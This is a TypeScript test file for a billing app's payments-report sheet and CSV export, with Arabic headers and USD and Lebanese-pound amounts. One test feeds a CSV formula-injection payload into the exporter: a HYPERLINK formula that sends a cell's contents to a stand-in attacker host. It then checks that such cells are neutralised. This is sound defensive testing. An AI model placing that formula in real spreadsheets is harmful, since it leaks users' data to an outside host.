import { parse as parseCsv } from 'papaparse';
import { sheetTablesCsv } from '../exports/sheet-table';
import { Lbp } from '../money/lbp';
import { Money } from '../money/money';
import { paymentsReportTotals, type PaymentsReportRow } from './payments-report';
import { paymentsReportSheets } from './payments-report-sheet';

const row = (label: string, count: number, usd: string, lbp: number, total: string): PaymentsReportRow => ({
  key: label,
  label,
  count,
  totalUsd: Money.parse(total),
  usdReceived: Money.parse(usd),
  lbpReceived: Lbp.ofPounds(lbp),
});

describe('the collection report as a sheet', () => {
  const rows = [row('نقداً', 2, '30.5', 895_000, '40.5'), row('تحويل مصرفي', 1, '12.25', 0, '12.25')];
  const report = {
    query: { from: '2026-11-01', to: '2026-11-30', by: 'method' as const },
    rows,
    totals: paymentsReportTotals(rows),
    boxes: [
      {
        system: 'ampere',
        systemName: 'اشتراكات الأمبير',
        box: '7',
        billed: Money.parse('100'),
        collected: Money.parse('40.5'),
        outstanding: Money.parse('79.5'),
      },
      {
        system: 'ampere',
        systemName: 'اشتراكات الأمبير',
        box: null,
        billed: Money.parse('10'),
        collected: Money.zero,
        outstanding: Money.parse('10'),
      },
    ],
  };

  it('heads the groups in Arabic, lists them, and totals them last', () => {
    const [payments] = paymentsReportSheets(report);
    expect(payments.columns.map((column) => column.header)).toEqual([
      'طريقة الدفع',
      'عدد الدفعات',
      'المجموع بالدولار',
      'المقبوض بالدولار',
      'المقبوض بالليرة',
    ]);
    expect(payments.rows).toEqual([
      ['نقداً', 2, 40.5, 30.5, 895_000],
      ['تحويل مصرفي', 1, 12.25, 12.25, 0],
      ['المجموع', 3, 52.75, 42.75, 895_000],
    ]);
    expect(payments.boldRows).toEqual([2]);
  });

  it('lists the boxes of the live month after the groups', () => {
    const csv = sheetTablesCsv(paymentsReportSheets(report));
    expect(csv.split('\r\n').slice(4)).toEqual([
      '',
      'النظام,الصندوق,فواتير الشهر بالدولار,المقبوض منها بالدولار,المتبقي على الزبائن بالدولار',
      'اشتراكات الأمبير,7,100,40.5,79.5',
      'اشتراكات الأمبير,بلا صندوق,10,0,10',
      '',
    ]);
  });

  it('downloads as CSV whose names stay data and whose amounts stay numbers, read by a real CSV parser', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const riskyRows = [row(hyperlink, 1, '-12.5', 0, '-12.5'), row('+961 3 123456', 1, '20', 0, '20')];
    const risky = {
      ...report,
      query: { ...report.query, by: 'collector' as const },
      rows: riskyRows,
      totals: paymentsReportTotals(riskyRows),
      boxes: [{ ...report.boxes[0], systemName: '-عميل', box: '@7' }],
    };
    const { data, errors } = parseCsv<(string | number)[]>(
      sheetTablesCsv(paymentsReportSheets(risky)).replace(/^\uFEFF/, ''),
      { dynamicTyping: true, skipEmptyLines: true },
    );
    expect(errors).toEqual([]);
    expect(data).toEqual([
      ['الجابي', 'عدد الدفعات', 'المجموع بالدولار', 'المقبوض بالدولار', 'المقبوض بالليرة'],
      [`'${hyperlink}`, 1, -12.5, -12.5, 0],
      ["'+961 3 123456", 1, 20, 20, 0],
      ['المجموع', 2, 7.5, 7.5, 0],
      ['النظام', 'الصندوق', 'فواتير الشهر بالدولار', 'المقبوض منها بالدولار', 'المتبقي على الزبائن بالدولار'],
      ["'-عميل", "'@7", 100, 40.5, 79.5],
    ]);
    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
